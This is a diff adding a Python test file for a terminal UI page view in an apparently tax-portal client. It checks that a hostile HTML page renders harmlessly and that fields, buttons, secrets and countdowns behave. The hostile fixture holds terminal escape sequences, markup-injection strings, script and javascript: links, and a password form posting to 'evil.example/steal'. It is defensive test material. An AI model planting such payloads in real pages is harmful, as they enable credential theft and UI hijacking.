@@ -1,0 +1,184 @@
+"""The page view: hostile pages do no harm, fields keep to what the page says, keys do what the page has them do (PGS-02, PGS-04)."""
+
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+from textual.app import App, ComposeResult
+from textual.pilot import Pilot
+from typing_extensions import override
+
+from etax_client.clock import ManualClock
+from etax_client.domain.pages.page import Button, Choice, Countdown, Field, FieldKind, Form, Link, Look, Page, Paragraph, Skin, Text
+from etax_client.domain.pages.reading import read_page
+from etax_client.domain.secret import Secret
+from etax_client.texts.catalogue import words
+from etax_client.widgets.pages.page_view import PageView
+from etax_client.widgets.push_button import PushButton
+from etax_client.widgets.themes import LIGHT
+
+
+class Stage(App[None]):
+    """One page, and what it says."""
+
+    def __init__(self, page: Page) -> None:
+        super().__init__()
+        self.register_theme(LIGHT)
+        self.set_reactive(App.theme, LIGHT.name)
+        self.stylesheet.set_variables(self.get_css_variables())
+        self.clock = ManualClock()
+        self._page = page
+        self.said: list[PageView.Followed | PageView.Pressed | PageView.TimeOver] = []
+
+    @override
+    def compose(self) -> ComposeResult:
+        yield PageView(words(), self.clock, self._page)
+
+    def on_mount(self) -> None:
+        self.view.focus_first()
+
+    def on_page_view_followed(self, event: PageView.Followed) -> None:
+        self.said.append(event)
+
+    def on_page_view_pressed(self, event: PageView.Pressed) -> None:
+        self.said.append(event)
+
+    def on_page_view_time_over(self, event: PageView.TimeOver) -> None:
+        self.said.append(event)
+
+    @property
+    def view(self) -> PageView:
+        return self.query_one(PageView)
+
+    @property
+    def text(self) -> str:
+        strips = self.screen._compositor.render_strips()
+        return "\n".join("".join(segment.text for segment in strip).rstrip() for strip in strips)
+
+
+@asynccontextmanager
+async def showing(page: Page, size: tuple[int, int] = (80, 40)) -> AsyncIterator[tuple[Stage, Pilot[None]]]:
+    stage = Stage(page)
+    async with stage.run_test(size=size) as pilot:
+        await pilot.pause()
+        yield stage, pilot
+
+
+def page(*blocks: Field | Button | Link | Paragraph, forms: int = 1) -> Page:
+    return Page("/portal/x", "页", "zh", Skin.portal, blocks, tuple(Form(f"/portal/{place}") for place in range(forms)))
+
+
+HOSTILE = (
+    b"<!doctype html><html lang=zh><title>[@click=app.quit]x[/] \x1b]0;pwned\x07</title><body class=portal><main>"
+    + b"<h1>[red]t[/red]\x1b[2J</h1>"
+    + b"<script>alert(2)</script><style>*{display:none}</style><blink onclick=x()>\xe2\x80\xae[/] evil</blink>"
+    + b"<a href='https://evil.example/a'>out</a><a href='javascript:alert(1)'>js</a><a href='//evil.example'>two</a>"
+    + b"<form method=post action='https://evil.example/steal'>"
+    + b"<label for=p>pw</label><input id=p name=p type=password><button>go</button></form>"
+    + b"<p>[@click=app.bell]click[/] $primary [link=x]</p>" * 50
+    + b"<div>" * 3000
+    + b"<table><tr>"
+    + b"<td colspan=999999>x" * 300
+)
+
+
+async def test_a_hostile_page_is_drawn_as_text_and_leads_nowhere() -> None:
+    """PGS-04, TUI-1, TUI-2: unknown tags, markup, controls, foreign links, a form that goes elsewhere, and no end."""
+    async with showing(read_page(HOSTILE, "/portal/x")) as (stage, pilot):
+        assert "[@click=app.bell]click[/] $primary [link=x]" in stage.text
+        assert not any(char in stage.text for char in "\x1b\x07\u202e")
+        assert "alert(2)" not in stage.text
+        for widget in stage.view.query("LinkLine, PushButton"):
+            widget.focus()
+            await pilot.press("enter")
+        assert not [event for event in stage.said if isinstance(event, PageView.Followed)]
+        assert all(stage.view.page.forms[event.button.form].action is None for event in stage.said if isinstance(event, PageView.Pressed))
+        for size in ((20, 5), (200, 60), (40, 24)):
+            await pilot.resize_terminal(*size)
+            await pilot.pause()
+
+
+async def test_the_first_error_has_the_focus_and_stands_beside_its_field() -> None:
+    fields = (
+        Field(0, "a", FieldKind.text, "甲", "1"),
+        Field(0, "b", FieldKind.text, "乙", "2", hint="提示", error="乙不对"),
+        Field(0, "c", FieldKind.text, "丙", "3", error="丙不对"),
+    )
+    async with showing(page(*fields, Button(0, "好", look=Look.main, enter=True))) as (stage, _):
+        assert stage.view.entries[1].widget.has_focus
+        rows = stage.text.splitlines()
+        at = next(place for place, row in enumerate(rows) if "乙" in row)
+        assert "乙不对" in rows[at + 1]
+
+
+async def test_enter_presses_what_the_page_has_it_press_and_sends_what_stands_there() -> None:
+    """A box without its tick is not sent, a day is sent as the page wants it, a secret stays one."""
+    fields = (
+        Field(0, "day", FieldKind.date, "日期"),
+        Field(0, "pw", FieldKind.password, "密码"),
+        Field(0, "yes", FieldKind.tick, "同意", ticks="on"),
+        Field(0, "one", FieldKind.radio, "选", choices=(Choice("x", "甲"), Choice("y", "乙"))),
+    )
+    buttons = (Button(0, "别的", name="do", value="other"), Button(0, "确定", look=Look.main, enter=True))
+    async with showing(page(*fields, *buttons)) as (stage, pilot):
+        await pilot.press(*"20260131", "tab", *"s3cret", "enter")
+        [pressed] = stage.said
+        assert isinstance(pressed, PageView.Pressed)
+        assert pressed.button.text == "确定"
+        secret = pressed.values["pw"]
+        assert isinstance(secret, Secret)
+        assert secret.reveal() == "s3cret"
+        assert {name: value for name, value in pressed.values.items() if name != "pw"} == {"day": "2026-01-31"}
+        await pilot.press("tab", "tab", "space", "tab", "2", "enter")
+        again = stage.said[-1]
+        assert isinstance(again, PageView.Pressed)
+        assert (again.values["yes"], again.values["one"]) == ("on", "y")
+
+
+async def test_what_is_missing_is_said_at_once_but_not_where_a_button_skips() -> None:
+    fields = (Field(0, "a", FieldKind.text, "甲", required=True), Field(0, "d", FieldKind.date, "日", "2026-02-31"))
+    async with showing(page(*fields, Button(0, "确定", enter=True), Button(0, "换一张", skips=True))) as (stage, pilot):
+        await pilot.press("enter")
+        assert stage.said == []
+        assert [entry.in_error for entry in stage.view.entries] == [True, True]
+        assert stage.view.entries[0].widget.has_focus
+        await pilot.press("x")
+        assert not stage.view.entries[0].in_error, "it is being mended"
+        stage.query(PushButton).last().focus()
+        await pilot.press("enter")
+        assert len(stage.said) == 1
+
+
+async def test_parts_of_a_form_that_are_not_asked_for_are_neither_shown_nor_sent() -> None:
+    kinds = (Choice("id", "身份证", note="18 位"), Choice("passport", "护照", parts=("nationality",)))
+    fields = (
+        Field(0, "kind", FieldKind.select, "证件", "id", choices=kinds),
+        Field(0, "nationality", FieldKind.text, "国籍", "DE", part="nationality"),
+    )
+    async with showing(page(*fields, Button(0, "确定", enter=True))) as (stage, pilot):
+        kind, nationality = stage.view.entries
+        assert "18 位" in stage.text
+        assert not nationality.display
+        stage.view.choose(kind, "passport")
+        await pilot.pause()
+        assert nationality.display
+        stage.view.choose(kind, "id")
+        stage.query_one(PushButton).focus()
+        await pilot.press("enter")
+        [pressed] = stage.said
+        assert isinstance(pressed, PageView.Pressed)
+        assert pressed.values == {"kind": "id"}
+
+
+async def test_a_countdown_frees_its_button_or_says_that_its_time_is_over() -> None:
+    left = Paragraph((Countdown(30, frees="again"), Text(" 秒后可重新获取")))
+    over = Paragraph((Text("剩余 "), Countdown(60)))
+    async with showing(page(left, over, Button(0, "重新获取", ident="again"))) as (stage, pilot):
+        button = stage.query_one(PushButton)
+        assert button.disabled
+        await stage.clock.advance(31)
+        await pilot.pause()
+        assert not button.disabled
+        assert stage.said == []
+        await stage.clock.advance(30)
+        await pilot.pause()
+        assert [type(event).__name__ for event in stage.said] == ["TimeOver"]
